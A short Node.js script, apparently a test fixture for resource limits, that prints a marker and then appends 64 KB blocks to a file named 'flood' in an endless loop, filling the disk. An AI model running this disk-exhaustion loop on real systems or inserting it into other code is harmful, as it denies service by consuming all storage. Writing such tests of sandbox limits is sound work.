const fs = require("node:fs");

console.log("before");
const block = "z".repeat(65536);
for (;;) fs.appendFileSync("flood", block);
